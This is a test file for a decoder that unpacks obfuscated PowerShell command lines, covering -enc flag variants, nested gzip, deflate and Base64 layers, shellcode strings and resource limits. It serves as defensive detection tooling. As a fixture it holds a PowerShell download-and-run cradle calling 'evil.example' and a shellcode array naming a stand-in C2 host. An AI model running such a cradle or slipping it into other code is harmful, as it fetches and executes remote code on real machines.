import { execFileSync } from "node:child_process";
import { deflateRawSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { decodeLayers } from "../../vendors/decode-layers.ts";
import { cpuMs } from "../cpu.ts";
import { dataPath, requires } from "../require.ts";

const wide = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
const shown = (command: string) =>
  decodeLayers(command).map(({ from, encoding, within, text }) => [within, from, encoding, text]);

describe("an encoded command line", () => {
  it.each([
    "-enc",
    "-e",
    "-EC",
    "-EncodedCommand",
    "/enc",
    "-eNcOd",
    "\u2013enc",
    "-e^n^c",
    "-`e`nc",
    "-enc:",
  ])("is decoded behind %s", (flag) => {
    expect(shown(`powershell -nop ${flag} ${wide(script)}`)).toEqual([
      [0, "-enc argument", "base64, utf-16le", script],
    ]);
  });

  it("is decoded whatever the text", () => {
    const printable = fc.string({ unit: "grapheme-ascii", minLength: 8, maxLength: 200 });
    fc.assert(
      fc.property(printable, (text) => {
        expect(decodeLayers(`powershell -enc ${wide(text)}`)[0]?.text).toBe(text);
      }),
    );
  });

  it("is not seen in other arguments, paths or hashes", () => {
    for (const command of [
      `powershell -ExecutionPolicy ${"Bypass".repeat(10)}`,
      "powershell -ep bypass -exec unrestricted -File C:\\Users\\abcdefghijklmnop\\Documents\\something\\quitelong\\x.ps1",
      "tool.exe --hash 01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b",
      "",
    ]) {
      expect([command, decodeLayers(command)]).toEqual([command, []]);
    }
  });

  it("is taken apart layer by layer: UTF-16 outside, gzip, deflate and Base64 inside", () => {
    const zipped = `[Convert]::FromBase64String('${gzipSync(script).toString("base64")}')`;
    const raw = `IO.Compression.DeflateStream([Convert]::FromBase64String("${deflateRawSync(zipped).toString("base64")}"))`;
    expect(shown(`powershell -enc ${wide(raw)}`)).toEqual([
      [0, "-enc argument", "base64, utf-16le", raw],
      [1, "FromBase64String", "base64, deflate, utf-8", zipped],
      [2, "FromBase64String", "base64, gzip, utf-8", script],
    ]);
  });

  it("that a sensor cut off is read as far as it goes", () => {
    const cut = gzipSync(script.repeat(200)).toString("base64").slice(0, 100);
    const [layer] = decodeLayers(`x FromBase64String('${cut}')`);
    expect(layer?.text.startsWith("IEX (New-Object")).toBe(true);
    expect(decodeLayers(`powershell -enc ${wide(script).slice(0, 61)}`)[0]?.text).toContain(
      "IEX (New-Object",
    );
  });

  it("shows the strings in shellcode", () => {
    const bytes = [0xfc, 0xe8, 0x82, 0, 0, 0, 0x60, 0x89, ...Buffer.from("c2.evil.example\0"), 0x90, 0x90];
    const list = bytes.map((byte) => `0x${byte.toString(16).padStart(2, "0")}`).join(",");
    expect(shown(`[Byte[]]$z = ${list};`)).toEqual([
      [0, "byte array", "byte array, binary", "c2.evil.example"],
    ]);
  });

  it("cannot be made to unpack without end, nest without end or take long", () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000, 65)).toString("base64");
    expect(decodeLayers(`FromBase64String('${bomb}')`)[0]?.text.length ?? 0).toBeLessThanOrEqual(1_000_000);
    let nested = script;
    for (let i = 0; i < 20; i++) nested = `FromBase64String('${gzipSync(nested).toString("base64")}')`;
    expect(decodeLayers(nested).length).toBeLessThanOrEqual(8);
    const hostile = [
      "-e ".repeat(80_000),
      `-e${" ".repeat(250_000)}`,
      "A".repeat(250_000) + "===",
      "0x1,".repeat(60_000),
    ];
    expect(cpuMs(() => hostile.map((text) => decodeLayers(text)))).toBeLessThan(5_000);
  });

  it("says how much of a long layer it left off", () => {
    const [layer] = decodeLayers(`powershell -enc ${wide("x".repeat(500))}`, { layers: 8, characters: 100 });
    expect([layer?.text.length, layer?.omitted]).toEqual([100, 400]);
  });
});

describe.skipIf(!requires("data"))("real encoded commands", () => {
  const packed = dataPath("unit42-encoded-powershell", "commands.jsonl.xz");
  const Row = z.object({ command_line: z.string(), decoded: z.string(), family: z.string() });
  const rows = execFileSync("xz", ["-dc", packed], { maxBuffer: 100_000_000, encoding: "utf8" })
    .trim()
    .split("\n")
    .map((line) => Row.parse(JSON.parse(line)));
  /** The data set's own decoding lost quotes and line ends to another code page. */
  const comparable = (text: string) => text.replace(/[^\x21-\x7e]|["'-]/g, "").slice(0, 1_000);

  it("are decoded to what their authors wrote, 319 of 321 at least", () => {
    const right = rows.filter(
      ({ command_line, decoded }) =>
        comparable(decodeLayers(command_line)[0]?.text ?? "").slice(0, 900) ===
        comparable(decoded).slice(0, 900),
    );
    console.log(`decoded ${right.length} of ${rows.length}`);
    expect(rows).toHaveLength(321);
    expect(right.length).toBeGreaterThanOrEqual(319);
  });
});
